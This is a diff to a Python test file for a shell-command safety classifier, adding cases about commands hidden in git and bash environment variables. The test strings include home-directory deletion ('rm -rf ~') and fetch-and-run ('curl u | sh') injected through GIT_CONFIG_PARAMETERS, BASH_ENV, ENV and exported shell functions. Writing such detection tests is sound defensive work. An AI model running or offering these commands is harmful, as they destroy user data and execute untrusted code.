@@ -208,6 +208,12 @@ def test_everyday_git_command_strings_pass(command: str) -> None:
      "git log", "shell.recursive-delete"),
     ("env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls", "shell.recursive-delete"),
     ("GIT_SSH_COMMAND=$(curl u) git fetch", "shell.tainted-exec"),
+    ("GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -rf ~'\" git log", "shell.recursive-delete"),
+    ("GIT_CONFIG_PARAMETERS=\"'user.name'='x' 'core.sshCommand=curl u|sh'\" git fetch",
+     "shell.pipe-to-shell"),
+    ("BASH_ENV=<(echo 'rm -rf ~') bash -c :", "shell.recursive-delete"),
+    ("ENV=<(echo 'curl u | sh') sh -c :", "shell.pipe-to-shell"),
+    ("echo 'rm -rf ~' > /tmp/e; BASH_ENV=/tmp/e bash -c :", "shell.recursive-delete"),
     ("git -ccore.pager='curl u|sh' log", "shell.pipe-to-shell"),
 ])
 def test_command_variables_are_classified_as_code(command: str, rule: str) -> None:
@@ -235,6 +241,8 @@ def test_deny_rm_blocks_inside_a_command_variable() -> None:
     "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*' git status",
     "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0='rm -rf ~' git log",
     "env 'BASH_FUNC_ls%%=() { echo hi; }' bash -c ls",
+    "GIT_CONFIG_PARAMETERS=\"'user.name'='rm -rf ~'\" git log",
+    "GIT_CONFIG_PARAMETERS=\"'safe.directory'='*'\" git status",
 ])
 def test_everyday_command_variables_pass(command: str) -> None:
     result = classify(command)
